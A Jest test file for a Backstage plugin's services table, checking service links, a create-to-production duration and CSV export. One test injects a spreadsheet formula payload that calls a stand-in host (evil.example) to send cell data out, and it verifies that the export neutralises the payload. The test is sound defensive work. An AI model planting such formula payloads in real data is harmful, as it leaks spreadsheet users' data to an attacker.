import { fireEvent, screen } from '@testing-library/react';
import { renderInTestApp } from '@backstage/frontend-test-utils';
import { ServicesTable } from './ServicesTable';
import { testSummary } from './testSummary';
import { downloadCsv } from '@internal/plugin-paved-react';

jest.mock('@internal/plugin-paved-react', () => ({
  ...jest.requireActual('@internal/plugin-paved-react'),
  downloadCsv: jest.fn(),
}));

describe('ServicesTable', () => {
  it('links each service to its page and says how long Create to production took', async () => {
    renderInTestApp(
      <ServicesTable
        services={testSummary('group:default/payments').services!}
        fileName="x.csv"
      />,
    );
    expect(await screen.findByText('ledger')).toHaveAttribute(
      'href',
      '/catalog/default/component/ledger',
    );
    // Created 2 Nov 09:00, first production deploy 3 Nov 15:00.
    expect(screen.getByText('30.0 h')).toBeInTheDocument();
    expect(screen.getByText('golden path')).toBeInTheDocument();
  });

  it('writes a formula from a source-template annotation into the CSV as text, not a formula', async () => {
    const [service] = testSummary('group:default/payments').services!;
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    renderInTestApp(
      <ServicesTable
        services={[{ ...service, goldenPath: false, sourceTemplate: formula }]}
        fileName="services.csv"
      />,
    );
    fireEvent.click(
      await screen.findByRole('button', { name: 'Download CSV' }),
    );

    const [name, text] = jest.mocked(downloadCsv).mock.calls[0];
    expect(name).toBe('services.csv');
    const [header, row] = text.split('\r\n');
    expect(header.split(',')[3]).toBe('source_template');
    // Neutralised with a leading quote, and quoted as RFC 4180 says (it holds " and ,).
    expect(row).toContain(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
    );
    expect(row).not.toMatch(/(^|,)=HYPERLINK/);
  });
});
